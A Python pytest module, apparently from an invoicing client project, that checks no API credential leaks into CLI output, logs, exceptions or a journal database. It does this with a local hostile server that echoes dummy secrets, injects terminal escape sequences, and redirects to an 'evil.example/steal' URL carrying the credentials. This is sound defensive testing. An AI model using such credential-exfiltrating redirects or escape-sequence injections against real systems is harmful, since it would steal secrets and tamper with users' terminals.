"""End to end: no credential reaches stdout, stderr, a log or the journal, whatever a server does.

Every credential variable is set to a distinctive value, and both APIs point at a hostile
server on 127.0.0.1. It serves a fake Qondor, but echoes every request header it receives
(the credentials) in its reason phrases, ``x-request-id``, other headers and bodies, raw,
JSON-escaped, percent-encoded and quoted; it answers state changes with errors and redirects
whose ``Location`` carries them, puts control characters in customer names and error bodies,
and refuses every Qonto call with the token in the error. The CLI runs in a subprocess with
DEBUG logging; the reconciler runs in process with every logger captured at DEBUG.
"""

from __future__ import annotations

import contextlib
import itertools
import json
import logging
import os
import pickle
import sqlite3
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus

import httpx
import pytest

from qondor_invoicing.qondor import QondorClient
from qondor_invoicing.qonto import QontoClient
from qondor_invoicing.reconcile import InMemoryFinanceSystem, Reconciler, SqliteJournal
from qondor_invoicing.testing import FakeQondor, FakeQonto
from qondor_invoicing.testing._server import FakeAPI

SRC = Path(__file__).resolve().parents[1] / "src"

QONDOR_KEY = {"QONDOR_API_KEY": "qdr-Key/7f3a+9c1e5b"}
QONTO_TOKEN = {
    "QONTO_ACCESS_TOKEN": "qto-Token/2d8e+4f6a0c",
    "QONTO_STAGING_TOKEN": "qto-Staging/4e2c+8b19",
}
QONTO_API_KEY = {
    "QONTO_LOGIN": "qto-login-5c1b7e3d",
    "QONTO_SECRET_KEY": "qto-Secret/9a3f+1d77",
    "QONTO_STAGING_TOKEN": "qto-Staging/4e2c+8b19",
}
CREDENTIAL_VARIABLES = {*QONDOR_KEY, *QONTO_TOKEN, *QONTO_API_KEY}
SECRETS = sorted({*QONDOR_KEY.values(), *QONTO_TOKEN.values(), *QONTO_API_KEY.values()})
CONTROL = "\x1b]0;pwned\x07\x1b[2J"
_PLAIN_HEADERS = {
    "host",
    "accept",
    "accept-encoding",
    "connection",
    "user-agent",
    "content-length",
    "content-type",
}


def forms(secret: str) -> set[str]:
    """The ways a credential can be written: raw, JSON-escaped, percent-encoded."""
    as_json = json.dumps(secret)[1:-1]
    return {
        secret,
        as_json,
        as_json.replace("/", "\\/"),
        quote(secret, safe=""),
        quote_plus(secret),
    }


def leaks(text: str | bytes) -> list[str]:
    if isinstance(text, bytes):
        text = text.decode("latin-1")
    return sorted(f for s in SECRETS for f in forms(s) if f in text)


class HostileServer:
    """A fake Qondor behind a server that echoes credentials everywhere (see the module)."""

    def __init__(self, qonto: dict[str, str]) -> None:
        self.fake = FakeQondor(api_key=QONDOR_KEY["QONDOR_API_KEY"], rate_limit=None)
        self.fake.seed(8, random_seed=3)
        self.qonto = FakeQonto(
            access_token=qonto.get("QONTO_ACCESS_TOKEN"),
            login=qonto.get("QONTO_LOGIN"),
            secret_key=qonto.get("QONTO_SECRET_KEY"),
            staging_token=qonto.get("QONTO_STAGING_TOKEN"),
            rate_limit=None,
        )
        self.credentials = qonto
        self.changes = itertools.count()
        self.qonto_calls = itertools.count()
        hostile = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, format: str, *args: Any) -> None:
                pass

            def _any(self) -> None:
                length = int(self.headers.get("content-length") or 0)
                body = self.rfile.read(length) if length else b""
                status, headers, content = hostile.answer(
                    self.command, self.path, dict(self.headers), body
                )
                echo = " ".join(_echoed(dict(self.headers)))
                self.send_response(status, f"Status {echo}")
                for name, value in headers.items():
                    self.send_header(name, value)
                self.send_header("x-request-id", f"req-{echo}")
                self.send_header("x-echo", quote(echo, safe=""))
                self.send_header("Content-Length", str(len(content)))
                self.end_headers()
                self.wfile.write(content)

            do_GET = do_PUT = do_POST = do_DELETE = do_PATCH = _any

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def answer(
        self, method: str, path: str, headers: dict[str, str], body: bytes
    ) -> tuple[int, dict[str, str], bytes]:
        echo = " ".join(_echoed(headers))
        escaped = json.dumps(echo)[1:-1].replace("/", "\\/")
        every_form = f'{echo} | {escaped} | {quote(echo, safe="")} | "{echo}" {CONTROL}'
        fake: FakeAPI = self.fake
        if path.startswith("/v2/"):
            fake = self.qonto
            if method != "GET" or next(self.qonto_calls) == 0:
                problem = {"errors": [{"code": "unavailable", "detail": f"no {every_form}"}]}
                headers = {"content-type": "application/json", "Retry-After": "0"}
                return 503, headers, json.dumps(problem).encode()
        elif method != "GET":
            n = next(self.changes) % 4
            if n == 0:
                problem = {
                    "type": "about:blank",
                    "title": f"refused {every_form}",
                    "status": 400,
                    "errors": {"failureMessage": [quote(echo, safe=""), f'"{echo}"']},
                }
                return (
                    400,
                    {"content-type": "application/problem+json"},
                    json.dumps(problem).encode(),
                )
            if n == 1:
                location = f"https://evil.example/steal?k={quote(echo, safe='')}&raw={echo}"
                return 307, {"Location": location}, b""
            if n == 2:
                page = f"<html><body>overloaded {every_form}</body></html>"
                return 503, {"content-type": "text/html", "Retry-After": "0"}, page.encode()
            return 409, {"content-type": "text/plain"}, f"conflict {every_form}".encode()
        request = httpx.Request(method, f"http://127.0.0.1{path}", headers=headers, content=body)
        response = fake.handle(request)
        content = response.content
        if response.headers.get("content-type", "").startswith("application/json") and content:
            content = json.dumps(_with_control_characters(json.loads(content))).encode()
        kept = {k: v for k, v in response.headers.items() if k.lower() != "content-length"}
        return response.status_code, kept, content

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def _echoed(headers: dict[str, str]) -> list[str]:
    return [v for k, v in headers.items() if k.lower() not in _PLAIN_HEADERS]


def _with_control_characters(value: Any) -> Any:
    if isinstance(value, dict):
        return {
            k: (
                f"{v}{CONTROL}"
                if k == "name" and isinstance(v, str)
                else _with_control_characters(v)
            )
            for k, v in value.items()
        }
    if isinstance(value, list):
        return [_with_control_characters(v) for v in value]
    return value


@pytest.fixture
def hostile(request: pytest.FixtureRequest) -> Iterator[HostileServer]:
    server = HostileServer(request.param)
    yield server
    server.close()


QONTO_CREDENTIALS = pytest.mark.parametrize(
    "hostile", [QONTO_TOKEN, QONTO_API_KEY], ids=["token", "api-key"], indirect=True
)


def environment(hostile: HostileServer) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k not in CREDENTIAL_VARIABLES}
    env.update(QONDOR_KEY, **hostile.credentials)
    env["QONDOR_BASE_URL"] = f"{hostile.url}/qondor/"
    env["QONTO_BASE_URL"] = f"{hostile.url}/v2/"
    env["PYTHONPATH"] = os.pathsep.join([str(SRC), env.get("PYTHONPATH", "")])
    return env


def journal_bytes(path: Path) -> bytes:
    return b"".join(p.read_bytes() for p in sorted(path.parent.glob(path.name + "*")))


_LOG_LEVELS = (b"DEBUG:", b"INFO:", b"WARNING:", b"ERROR:", b"CRITICAL:")
_CLI = (
    "import logging, sys\n"
    "logging.basicConfig(level=logging.DEBUG)\n"
    "from qondor_invoicing.cli import main\n"
    "sys.exit(main(sys.argv[1:]))\n"
)


@QONTO_CREDENTIALS
def test_the_cli_never_shows_or_stores_a_credential(hostile: HostileServer, tmp_path: Path) -> None:
    (tmp_path / "hostile_finance.py").write_text(
        "from qondor_invoicing.reconcile import InMemoryFinanceSystem\n"
        "finance = InMemoryFinanceSystem()  # knows nothing: every payment is set as failed\n"
    )
    journal = tmp_path / "journal.db"
    env = environment(hostile)
    first = min(hostile.fake.invoices)
    commands = [
        ["queue"],
        ["queue", "--json"],
        ["show", str(first)],
        ["reconcile", "--finance", "hostile_finance:finance"],
        ["reconcile", "--finance", "hostile_finance:finance", "--apply", "--journal", str(journal)],
        ["reconcile", "--finance", "hostile_finance:finance", "--apply", "--journal", str(journal)],
        ["set-unprocessed", str(first), "--yes"],
        ["qonto", "list"],
        ["qonto", "mark-paid", "00000000-0000-0000-0000-000000000001"],
    ]
    for command in commands:
        result = subprocess.run(
            [sys.executable, "-c", _CLI, *command],
            env=env,
            cwd=tmp_path,
            capture_output=True,
            timeout=120,
            check=False,
        )
        output = result.stdout + result.stderr
        assert b"DEBUG" in result.stderr, command  # the logs were on
        assert not leaks(output), (command, leaks(output), output.decode("latin-1")[-3000:])
        # What the CLI prints (log records are the logging handler's to escape).
        printed = result.stdout + b"\n".join(
            line for line in result.stderr.splitlines() if not line.startswith(_LOG_LEVELS)
        )
        assert b"\x1b" not in printed, (command, printed.decode("latin-1")[-3000:])
        assert b"\x07" not in printed, command
    stored = journal_bytes(journal)
    assert not leaks(stored), leaks(stored)
    with contextlib.closing(sqlite3.connect(journal)) as db:
        errors = [r[0] for r in db.execute("SELECT detail FROM events WHERE kind = 'error'")]
    assert errors, "the hostile answers were recorded"
    assert any("**********" in e for e in errors), errors


async def _no_sleep(seconds: float) -> None:
    return None


def every_trace(error: BaseException) -> str:
    parts = [str(error), repr(error), repr(error.args), repr(vars(error))]
    parts += [repr(getattr(error, "__notes__", [])), pickle.dumps(error).decode("latin-1")]
    headers = getattr(error, "headers", None)
    if headers is not None:
        parts.append(repr(list(headers.items())))
    for linked in (error.__cause__, error.__context__):
        if linked is not None:
            parts += [str(linked), repr(linked)]
    return "\n".join(parts)


@pytest.mark.anyio
@QONTO_CREDENTIALS
async def test_the_reconciler_never_logs_raises_or_stores_a_credential(
    hostile: HostileServer,
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    for name in CREDENTIAL_VARIABLES:
        monkeypatch.delenv(name, raising=False)
    for name, value in {**QONDOR_KEY, **hostile.credentials}.items():
        monkeypatch.setenv(name, value)
    caplog.set_level(logging.DEBUG)
    path = tmp_path / "journal.db"
    async with (
        QondorClient(base_url=f"{hostile.url}/qondor/", sleep=_no_sleep) as qondor,
        QontoClient(base_url=f"{hostile.url}/v2/", sleep=_no_sleep) as qonto,
        SqliteJournal(path) as journal,
    ):
        reconciler = Reconciler(
            qondor, finance=InMemoryFinanceSystem(), qonto=qonto, journal=journal
        )
        reports = [await reconciler.run(), await reconciler.run()]
        texts = [str(report) for report in reports]
        for report in reports:
            for result in report.results:
                texts.append(repr(result))
                if result.error is not None:
                    texts.append(every_trace(result.error))
        for entry in [*await journal.unfinished(), *await journal.entries()]:
            texts.append(repr(entry))
            texts += [repr(event) for event in await journal.history(entry.payment_key)]
    texts += [record.getMessage() for record in caplog.records]
    texts += [str(record.exc_info[1]) for record in caplog.records if record.exc_info]
    everything = "\n".join(texts)
    assert "**********" in everything  # the echoes arrived, masked
    assert not leaks(everything), leaks(everything)
    assert not leaks(journal_bytes(path))
